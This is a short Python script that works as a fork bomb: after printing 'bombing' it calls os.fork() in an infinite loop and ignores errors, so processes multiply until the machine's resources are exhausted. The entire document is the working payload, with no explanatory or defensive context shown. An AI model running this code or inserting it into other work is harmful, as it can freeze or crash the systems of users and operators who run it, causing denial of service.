import os
print("bombing", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
